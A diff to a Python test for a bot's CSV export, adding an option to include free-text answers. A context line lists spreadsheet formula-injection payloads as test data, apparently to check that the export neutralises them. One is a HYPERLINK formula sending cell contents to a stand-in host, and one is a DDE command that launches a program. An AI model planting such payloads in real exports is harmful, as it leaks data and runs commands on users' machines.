@@ -6,7 +6,7 @@ import csv
 import io
 from typing import Any
 
-from bot.domain.export import write_csv
+from bot.domain.export import ExportOptions, write_csv
 from bot.models import CheckinAnswer, Escalation, Message
 from tests.conftest import START
 
@@ -17,7 +17,7 @@ FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"pain\")", "+cmd|' /C calc'!A
 def _export(services: Any, kind: str) -> list[list[str]]:
     out = io.StringIO()
     with services.db.session() as session:
-        write_csv(session, kind, out)
+        write_csv(session, kind, out, ExportOptions(include_free_text=True))
     return list(csv.reader(io.StringIO(out.getvalue(), newline="")))
 
 
